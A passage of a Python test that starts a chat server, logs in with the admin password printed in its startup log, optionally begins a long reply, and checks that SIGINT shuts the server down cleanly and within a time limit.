        process = ServerProcess(data, str(model), {"CHAT_MAX_NEW_TOKENS": "3000"}).start()
        try:
            start_log = process.log().rstrip()
            box = start_log[start_log.index("Serving "):]
            password = re.search(r"\| +password: (\S+) +\|", box).group(1)
            assert box.splitlines()[-1].startswith("+---") and box.count("password") == 2  # the box is last
            page = pages()
            log_in(page, process.url, "admin", password)  # the printed password works
            if busy:
                set_max_new_tokens(page, 3000)
                send_with_enter(page, "a long reply while the server stops")
                wait_for(page.locator("#stop").is_visible, timeout=60)  # a reply is under way
                page.wait_for_timeout(1000)
            started = time.monotonic()
            process.process.send_signal(signal.SIGINT)
            assert process.process.wait(30) == 0
            took = time.monotonic() - started
        finally:
            process.kill()
        limit = SHUTDOWN_GRACE_SECONDS + 3 if busy else 3.0
        assert took < limit, (busy, took)
        shutdown_log = process.log()[len(start_log):]
        assert "Traceback" not in shutdown_log and "Error" not in shutdown_log, shutdown_log
        assert shutdown_log.rstrip().endswith("Stopped cleanly.")
